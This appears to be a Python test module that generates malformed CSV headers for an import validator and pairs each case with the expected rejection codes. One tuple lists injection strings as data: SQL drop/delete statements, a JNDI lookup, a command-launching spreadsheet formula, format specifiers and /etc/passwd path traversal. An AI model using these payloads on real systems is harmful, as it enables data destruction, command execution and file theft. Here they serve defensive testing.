"""CSV with something wrong in its first line."""

from __future__ import annotations

import random
from collections.abc import Callable

from tests.inputs.cases import ANY_RULE, Label, Made, Refused, Taken, recipe
from tests.inputs.csv_manners import some_files
from tests.inputs.town import code
from tests.inputs.written_csv import Files

MISSING, REPEATED, NO_HEADER, EMPTY = "L-001", "L-010", "L-014", "L-015"
WITHOUT_NAMES = Refused(frozenset({MISSING}))
INJECTIONS = (
    '"; drop table persons; --', "'); delete from contacts; --", "${jndi:ldap://kanari}",
    "{{7*7}}", "=cmd|'/c calc'!A1", "%s%n%x", "read_csv('/etc/passwd')", "../../etc/passwd",
)  # fmt: skip
WITHOUT_HEADER = Refused(frozenset({NO_HEADER}))
MUST_HAVE_ROWS = ("persons", "episodes")


def _header(files: Files, entity: str, change: Callable[[list[str]], None]) -> None:
    names = list(files.columns[entity])
    change(names)
    quoted = [files.manner.quoted(name) for name in names]
    files.lines[entity][0] = files.manner.delimiter.join(quoted)


def _some_header(draw: random.Random, change: Callable[[list[str], int], None]) -> Files:
    files = some_files(draw)
    entity, _ = files.town.some()
    place = draw.randrange(len(files.columns[entity]))
    _header(files, entity, lambda names: change(names, place))
    return files


@recipe("csv")
def near_miss_in_header(draw: random.Random) -> Made:
    """A name that is nearly the declared one."""

    def misspell(names: list[str], place: int) -> None:
        name = names[place]
        names[place] = draw.choice(
            [name[:-1], name + "s", name.replace("_", ""), name[1] + name[0] + name[2:], f"{name}_"]
        ) if "_" in name else name[:-1]  # fmt: skip

    return _some_header(draw, misspell).made(WITHOUT_NAMES)


@recipe("csv")
def strange_word_in_header(draw: random.Random) -> Made:
    """A declared name is gone, and something else stands there."""
    files = some_files(draw)
    entity, _ = files.town.some()
    word = files.town.secret()
    _header(files, entity, lambda names: names.__setitem__(draw.randrange(len(names)), word))
    return files.made(WITHOUT_NAMES)


@recipe("csv")
def name_missing_in_header(draw: random.Random) -> Made:
    """A declared column is not there, neither name nor cells."""
    files = some_files(draw, quotes_all=False)
    entity, _ = files.town.some()
    place = draw.randrange(len(files.columns[entity]))
    names = files.columns[entity][:place] + files.columns[entity][place + 1 :]
    lines = [files.line(row, names, {}) for row in files.town.rows[entity]]
    files.lines[entity] = [files.manner.delimiter.join(names), *lines]
    return files.made(WITHOUT_NAMES)


@recipe("csv")
def name_twice_in_header(draw: random.Random) -> Made:
    """A declared name stands twice."""
    files = some_files(draw)
    entity, _ = files.town.some()
    name = draw.choice(files.columns[entity])
    for place, line in enumerate(files.lines[entity]):
        files.lines[entity][place] = line + files.manner.delimiter + ("" if place else name)
    return files.made(Refused(frozenset({REPEATED})))


@recipe("csv")
def name_of_another_column(draw: random.Random) -> Made:
    """One declared name has been written over by another."""

    def overwrite(names: list[str], place: int) -> None:
        names[place] = names[place - 1]

    return _some_header(draw, overwrite).made(Refused(frozenset({MISSING, REPEATED})))


@recipe("csv")
def blank_name_in_header(draw: random.Random) -> Made:
    """A declared name has been emptied."""

    def empty(names: list[str], place: int) -> None:
        names[place] = draw.choice(["", " ", "\u00a0"])

    return _some_header(draw, empty).made(WITHOUT_NAMES)


@recipe("csv")
def header_in_quotation_marks_and_blanks(draw: random.Random) -> Made:
    """Names with blanks around them are still the names."""
    files = some_files(draw)
    for entity, names in files.columns.items():
        files.lines[entity][0] = files.manner.delimiter.join(f'" {name} "' for name in names)
    return files.made()


@recipe("csv")
def header_only(draw: random.Random) -> Made:
    """A file without rows: right for what may be none of, wrong for persons and episodes."""
    files = some_files(draw)
    entity = draw.choice(list(files.lines)[-1:] + [e for e in files.lines if e in MUST_HAVE_ROWS])
    del files.lines[entity][1:]
    if entity in MUST_HAVE_ROWS:
        return files.made(Refused(frozenset({code(entity, 20)})))
    return files.made(Taken(files.town.counts() | {entity: 0}))


@recipe("csv")
def no_header(draw: random.Random) -> Made:
    """The first line is a person."""
    files = some_files(draw)
    entity, _ = files.town.some()
    del files.lines[entity][0]
    return files.made(WITHOUT_HEADER)


@recipe("csv")
def empty_file(draw: random.Random) -> Made:
    """Not a byte, or nothing but blanks."""
    files = some_files(draw)
    entity, _ = files.town.some()
    content = draw.choice(["", "\n", "\r\n\r\n", "  ", " \n \n"]).encode(files.manner.encoding)
    parts = files.parts()
    parts[next(name for name in parts if name.endswith(f"/{entity}.csv"))] = content
    return files.made(Refused(frozenset({EMPTY, NO_HEADER})), parts=parts)


@recipe("csv")
def title_above_header(draw: random.Random) -> Made:
    """A report's title stands where the names should."""
    files = some_files(draw)
    entity, _ = files.town.some()
    files.lines[entity].insert(0, f"Rapport for {files.town.secret()}")
    return files.made(WITHOUT_HEADER)


@recipe("csv")
def header_again_among_the_rows(draw: random.Random) -> Made:
    """Two extracts pasted together: the second header is no record."""
    files = some_files(draw, encoding=draw.choice(["utf-8", "cp1252"]))
    entity, place = files.town.leaf()
    files.lines[entity].insert(place + 2, files.lines[entity][0])
    counts = files.town.counts()
    set_aside: dict[Label, frozenset[str]] = {(entity, "record_id"): ANY_RULE}
    return files.made(Taken(counts | {entity: counts[entity] + 1}, set_aside))


@recipe("csv")
def injection_in_header(draw: random.Random) -> Made:
    """Statements, formulas and paths as names of columns nobody asked for."""
    files = some_files(draw)
    word = files.town.secret()
    for lines in files.lines.values():
        name = files.manner.quoted(f"{draw.choice(INJECTIONS)} {word}")
        lines[0] += files.manner.delimiter + name
        lines[1:] = [line + files.manner.delimiter for line in lines[1:]]
    return files.made()


@recipe("csv")
def injection_instead_of_name(draw: random.Random) -> Made:
    """The same where a declared name should stand."""

    def inject(names: list[str], place: int) -> None:
        names[place] = draw.choice(INJECTIONS)

    return _some_header(draw, inject).made(WITHOUT_NAMES)


@recipe("csv")
def endless_header(draw: random.Random) -> Made:
    """A first line longer than any header."""
    files = some_files(draw, encoding="utf-8")
    entity, _ = files.town.some()
    files.lines[entity][0] = files.town.secret() * 9_000 + files.lines[entity][0]
    return files.made(Refused(frozenset({MISSING, NO_HEADER, "L-011"})))
